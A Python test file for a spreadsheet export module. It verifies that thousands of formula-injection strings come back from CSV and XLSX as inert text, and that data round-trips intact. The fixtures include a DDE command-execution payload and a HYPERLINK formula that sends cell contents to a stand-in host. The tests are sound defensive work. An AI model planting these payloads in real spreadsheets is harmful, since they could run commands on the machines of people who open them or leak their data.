"""What is given out reads back as it was, and nothing in it is a formula (trust.md T12)."""

from __future__ import annotations

import io
from datetime import date, datetime
from decimal import Decimal
from enum import StrEnum

import openpyxl
import polars as pl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tests.acts.sheets.books import HEADINGS, ROWS, moment, parts_of
from zhunsheng.acts import sheets
from zhunsheng.acts.sheets import prefix

STARTS = ["=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠", "'=", "''@", "'", "="]
BODIES = ["1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://h/?"&A1,"看")', "SUM(A1:A9)*2", "86-955-7012345", "2", "\n=1"]
HOSTILE = [f"{start}{body}{i}" for i in range(31) for start in STARTS for body in BODIES][:3_000]


def test_every_one_of_three_thousand_hostile_texts_comes_back_unchanged_from_csv() -> None:
    table = sheets.read(sheets.write_csv([[text, "x"] for text in HOSTILE], ["值", "备注"]), "a.csv")
    assert table.values("值") == HOSTILE


def test_every_one_of_three_thousand_hostile_texts_is_a_text_in_a_workbook() -> None:
    data = sheets.write([[text] for text in HOSTILE], ["值"], title="危险的值")
    assert b"<f>" not in parts_of(data)["xl/worksheets/sheet1.xml"]
    cells = [cell for (cell,) in openpyxl.load_workbook(io.BytesIO(data)).active.iter_rows(min_row=2)]
    assert {cell.data_type for cell in cells} == {"s"}
    assert all(cell.quotePrefix for cell in cells if prefix.at_risk(cell.value))
    assert sheets.read(data, "a.xlsx").values("值") == HOSTILE


def test_no_cell_of_csv_begins_as_a_formula_and_no_number_is_touched() -> None:
    written = sheets.write_csv([["=1+1", -5], ["＠x", -0.5]], ["=标题", "数"]).decode("utf-8-sig")
    assert written.splitlines() == ["'=标题,数", "'=1+1,-5", "'＠x,-0.5"]


@given(st.text(st.characters(exclude_categories=["Cs", "Cc"]) | st.sampled_from("'=+-@\t\r\n")))
def test_guarding_is_undone_exactly(text: str) -> None:
    assert prefix.unguarded(prefix.guarded(text)) == text


@settings(max_examples=30, deadline=None)
@given(
    st.lists(
        st.tuples(
            st.text(st.characters(exclude_categories=["Cs", "Cc", "Co"]), min_size=1), st.integers(-(10**14), 10**14)
        ),
        min_size=1,
        max_size=20,
    )
)
def test_any_table_of_text_and_numbers_reads_back_from_a_workbook(rows: list[tuple[str, int]]) -> None:
    rows = [("值" + text, number) for text, number in rows]
    assert sheets.read(sheets.write(rows, ["名称", "数"], title="表"), "a.xlsx").rows == [list(row) for row in rows]


def test_dates_numbers_and_codes_read_back_from_a_workbook_as_they_were() -> None:
    table = sheets.read(sheets.write(ROWS, HEADINGS, title="企业"), "a.xlsx")
    assert (table.name, table.headings, table.rows) == ("企业", HEADINGS, ROWS)


def test_a_frame_reads_back_equal_from_workbook_and_parquet() -> None:
    frame = pl.DataFrame(ROWS, schema=HEADINGS, orient="row")
    assert sheets.read(sheets.write(frame, HEADINGS, title="企业"), "a.xlsx").frame.equals(frame)
    assert pl.read_parquet(io.BytesIO(sheets.write_parquet(frame, HEADINGS))).equals(frame)
    assert pl.read_parquet(io.BytesIO(sheets.write_parquet(ROWS, HEADINGS))).equals(frame)


def test_csv_begins_with_the_mark_by_which_excel_knows_it() -> None:
    data = sheets.write_csv([["䶮㐀𠮷€", date(2025, 5, 6)]], ["名称", "日期"])
    assert data.startswith(b"\xef\xbb\xbf")
    assert sheets.read(data, "a.csv").rows == [["䶮㐀𠮷€", "2025-05-06"]]


def test_values_a_cell_cannot_hold_are_written_so_that_nothing_is_lost() -> None:
    class State(StrEnum):
        FILED = "filed"

    row = [
        True,
        None,
        10**18,
        float("nan"),
        Decimal("1.5"),
        State.FILED,
        ["甲", "乙"],
        date(1850, 1, 1),
        moment(2025, 5, 6, 9),
    ]
    back = sheets.read(sheets.write([row], list("abcdefghi"), title="表"), "a.xlsx").rows[0]
    assert back == ["是", None, str(10**18), "nan", 1.5, "filed", "甲、乙", "1850-01-01", moment(2025, 5, 6, 9)]


def test_a_text_longer_than_a_cell_says_that_it_is_cut() -> None:
    (cell,) = sheets.read(sheets.write([["长" * 40_000]], ["备注"], title="表"), "a.xlsx").rows[0]
    assert len(str(cell)) == 32_767
    assert str(cell).endswith("……（原文共40000字，此处截断）")


def test_notes_stand_on_a_sheet_of_their_own_that_is_not_read_back() -> None:
    data = sheets.write(ROWS, HEADINGS, title="检查对象", notes=[("筛选", "=2025年"), ("条数", 2)])
    assert openpyxl.load_workbook(io.BytesIO(data)).sheetnames == ["检查对象", "说明"]
    assert sheets.read(data, "a.xlsx").rows == ROWS


@pytest.mark.parametrize(
    ("title", "name"), [("a/b:c*?[x]", "a b c   x"), ("长" * 40, "长" * 31), ("''", "数据"), ("", "数据")]
)
def test_any_title_becomes_a_name_a_sheet_may_have(title: str, name: str) -> None:
    assert sheets.read(sheets.write(ROWS, HEADINGS, title=title), "a.xlsx").name == name


def test_a_table_without_rows_is_still_a_sheet() -> None:
    assert sheets.read(sheets.write([], HEADINGS, title="空"), "a.xlsx").headings == HEADINGS
    assert sheets.read(sheets.write_csv([], HEADINGS), "a.csv").headings == HEADINGS


def test_a_workbook_keeps_no_hour_of_its_making() -> None:
    book = openpyxl.load_workbook(io.BytesIO(sheets.write([("甲",)], ["名称"], title="表")))
    assert (book.properties.title, book.properties.created) == ("表", datetime(2000, 1, 1))  # noqa: DTZ001
